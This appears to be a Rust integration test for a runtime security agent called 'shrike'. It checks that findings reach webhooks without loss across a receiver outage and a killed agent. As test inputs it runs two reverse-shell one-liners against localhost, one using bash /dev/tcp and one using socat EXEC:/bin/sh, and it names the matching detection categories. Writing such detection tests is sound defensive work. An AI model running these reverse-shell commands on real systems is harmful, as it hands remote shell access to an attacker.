//! Privileged: `shrike run` delivering real findings to a webhook on 127.0.0.1 across an outage
//! of the receiver and a killed agent. The receiver is down while the first attack's findings are
//! raised; the agent is killed (SIGKILL, no shutdown) and started again, a second attack happens,
//! then the receiver comes up: every finding the agents raised arrives, under its own id only,
//! with the body the agent wrote, and the spool is emptied. One webhook comes from the config
//! file, a second from `--webhook` on the command line.

use shrike_tests::{agent, common, http};
use std::{
    collections::{BTreeMap, BTreeSet},
    time::{Duration, Instant},
};

use agent::{belongs_to_runner, metric, run_attack, Agent, AgentSpec};
use common::{marker, privileged, spooled_files};
use http::{delivery_key, free_port, Server};
use serde_json::Value;

const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVERSE_SHELL: &str = "Reverse Shell";
const SOCAT: &str = "Execution: Socat Reverse Shell Detected";

/// Lines the agent has written once no update has followed for longer than the incident
/// settle time (1.5 s): updates of its findings are out.
fn written_when_settled(agent: &Agent) -> usize {
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut n = agent.written().len();
    loop {
        std::thread::sleep(Duration::from_millis(2500));
        let now = agent.written().len();
        if now == n || Instant::now() > deadline {
            return now;
        }
        n = now;
    }
}

fn wait(what: &str, timeout: Duration, mut cond: impl FnMut() -> bool, state: impl Fn() -> String) {
    let deadline = Instant::now() + timeout;
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}: {}", state());
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn category(f: &Value) -> String {
    f["finding"]["category"].as_str().unwrap().to_string()
}

/// The findings (from `all`) of the attack run by `runner`.
fn of_runner(all: &[Value], runner: u32) -> Vec<Value> {
    all.iter().filter(|f| belongs_to_runner(f, runner)).cloned().collect()
}

/// Wait until the agent has raised exactly `want` for the attack run by `runner`.
fn wait_caught(agent: &Agent, what: &str, runner: u32, want: &[&str]) {
    let want: BTreeSet<String> = want.iter().map(|s| s.to_string()).collect();
    let got = || of_runner(&agent.findings(), runner).iter().map(category).collect::<BTreeSet<_>>();
    wait(what, Duration::from_secs(20), || got() == want, || format!("{:?}", agent.findings().iter().map(category).collect::<Vec<_>>()));
}

#[test]
fn webhook_outage_and_killed_agent_lose_no_finding() {
    if !privileged("webhook_outage_and_killed_agent_lose_no_finding") {
        return;
    }
    let dir = std::env::temp_dir().join(marker("run-delivery"));
    std::fs::create_dir_all(&dir).unwrap();
    let port = free_port();
    let spool = dir.join("spool/siem");
    let token = dir.join("token");
    std::fs::write(&token, "t0ken\n").unwrap();
    let spec = AgentSpec {
        name: "delivery",
        socket: None,
        host_scope: true,
        extra_config: format!(
            "[sinks]\nspool_dir = \"{}\"\n[[sinks.webhook]]\nname = \"siem\"\nurl = \"http://127.0.0.1:{port}/ingest\"\ntoken_file = \"{}\"\nbackoff_initial_ms = 50\nbackoff_max_ms = 400\ntimeout_ms = 3000\n",
            dir.join("spool").display(),
            token.display()
        ),
        args: vec!["--webhook".into(), format!("http://127.0.0.1:{port}/flag")],
    };
    let flag_spool = dir.join("spool/cli-1");

    // 1. The receiver is down. A reverse shell is caught; its findings wait in the spool.
    let a = agent::start(&dir, &spec);
    let runner1 = run_attack("bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'", "id; exit\n");
    wait_caught(&a, "the first attack's findings", runner1, &[REVERSE_SHELL, RCE]);
    // Every line written is delivered, updates of a finding included.
    let n1 = written_when_settled(&a);
    // The first findings went out at once, not after the incident's settle time nor the
    // reader's next poll: an exec with a network socket on its stdio wakes the reader.
    let latency = |text: &str| {
        (metric(text, "shrike_finding_latency_seconds_count"), metric(text, "shrike_finding_latency_seconds_bucket{le=\"0.1\"}"))
    };
    wait("the finding latency in the metrics", Duration::from_secs(5), || latency(&agent::http_get(&a.metrics, "/metrics")).0 >= 2.0, || agent::http_get(&a.metrics, "/metrics"));
    let text = agent::http_get(&a.metrics, "/metrics");
    let (timed, fast) = latency(&text);
    assert_eq!(fast, timed, "every first finding within 100 ms of its event: {text}");
    wait(
        "the findings in the spools",
        Duration::from_secs(10),
        || spooled_files(&spool).len() == n1 && spooled_files(&flag_spool).len() == n1,
        || format!("{:?} {:?}", spooled_files(&spool), spooled_files(&flag_spool)),
    );
    let metrics_a = agent::http_get(&a.metrics, "/metrics");
    wait(
        "failed delivery attempts in the metrics",
        Duration::from_secs(10),
        || metric(&agent::http_get(&a.metrics, "/metrics"), "shrike_sink_failures_total{sink=\"siem\"}") >= 1.0,
        || metrics_a.clone(),
    );
    let text = agent::http_get(&a.metrics, "/metrics");
    assert_eq!(metric(&text, "shrike_sink_delivered_total{sink=\"siem\"}"), 0.0, "{text}");
    assert!(metric(&text, "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0, "{text}");

    // 2. The agent is killed: no flush, no shutdown. What it accepted is on disk.
    let written_a = a.written_handle();
    let (found_a, _) = a.kill();
    let written_a = written_a.lock().unwrap().clone();
    assert_eq!(written_a.len(), n1, "nothing more was written after the spool filled");
    assert_eq!(spooled_files(&spool).len(), n1, "the spool outlives the killed agent");

    // 3. Started again (the receiver still down): the spool is picked up, a second attack adds
    //    to it.
    let b = agent::start(&dir, &spec);
    wait(
        "the spool picked up at start",
        Duration::from_secs(5),
        || metric(&agent::http_get(&b.metrics, "/metrics"), "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0,
        || agent::http_get(&b.metrics, "/metrics"),
    );
    let runner2 = run_attack("socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh", "id; exit\n");
    wait_caught(&b, "the second attack's findings", runner2, &[SOCAT, REVERSE_SHELL, RCE]);
    let n2 = written_when_settled(&b);
    wait(
        "every finding in the spools",
        Duration::from_secs(10),
        || spooled_files(&spool).len() == n1 + n2 && spooled_files(&flag_spool).len() == n1 + n2,
        || format!("{:?} {:?}", spooled_files(&spool), spooled_files(&flag_spool)),
    );

    // 4. The receiver comes back: every finding arrives and the spool empties.
    let server = Server::ok(port);
    let mut raised: BTreeMap<String, Value> = BTreeMap::new();
    for f in written_a.iter().chain(b.written().iter()) {
        assert!(raised.insert(delivery_key(f), f.clone()).is_none(), "two findings with one delivery key: {f}");
    }
    let ids_at = |target: &str| -> BTreeSet<String> {
        server.requests().iter().filter(|r| r.target == target).map(|r| delivery_key(&r.json())).collect()
    };
    wait(
        "delivery of everything to both webhooks",
        Duration::from_secs(30),
        || ids_at("/ingest").len() == raised.len() && ids_at("/flag").len() == raised.len() && spooled_files(&spool).is_empty() && spooled_files(&flag_spool).is_empty(),
        || format!("received {:?}, spooled {:?} {:?}", server.ids(), spooled_files(&spool), spooled_files(&flag_spool)),
    );
    let raised_ids: BTreeSet<String> = raised.keys().cloned().collect();
    assert_eq!(ids_at("/ingest"), raised_ids, "exactly the raised findings, no other ids");
    assert_eq!(ids_at("/flag"), raised_ids, "the --webhook sink too");
    for r in server.requests() {
        assert_eq!(r.method, "POST");
        match r.target.as_str() {
            "/ingest" => assert_eq!(r.header("authorization"), Some("Bearer t0ken")),
            "/flag" => assert_eq!(r.header("authorization"), None),
            t => panic!("request to {t}"),
        }
        let body = r.json();
        let id = delivery_key(&body);
        assert_eq!(r.header("idempotency-key"), Some(id.as_str()));
        // A repeat is allowed (at least once), and then it is the same finding.
        assert_eq!(body, raised[&id], "the body the agent wrote");
    }
    // One incident, one id: no category of one attack arrived under two ids.
    let mut per_incident: BTreeMap<(u32, String), usize> = BTreeMap::new();
    for (runner, found) in [(runner1, &found_a), (runner2, &b.findings())] {
        for f in of_runner(found, runner) {
            *per_incident.entry((runner, category(&f))).or_default() += 1;
        }
    }
    assert!(per_incident.values().all(|&n| n == 1), "{per_incident:?}");

    // The metrics (published once a second) catch up: all delivered, nothing spooled or dropped.
    let n = raised.len() as f64;
    let settled = |text: &str| {
        ["siem", "cli-1"].iter().all(|k| {
            metric(text, &format!("shrike_sink_delivered_total{{sink=\"{k}\"}}")) >= n
                && metric(text, &format!("shrike_sink_spool_bytes{{sink=\"{k}\"}}")) == 0.0
                && metric(text, &format!("shrike_sink_queue_depth{{sink=\"{k}\"}}")) == 0.0
                && metric(text, &format!("shrike_sink_dropped_total{{sink=\"{k}\"}}")) == 0.0
        })
    };
    wait("the sink metrics", Duration::from_secs(5), || settled(&agent::http_get(&b.metrics, "/metrics")), || agent::http_get(&b.metrics, "/metrics"));
    let (_, log) = b.stop();
    assert!(spooled_files(&spool).is_empty() && spooled_files(&flag_spool).is_empty(), "{log}");
    std::fs::remove_dir_all(&dir).unwrap();
}
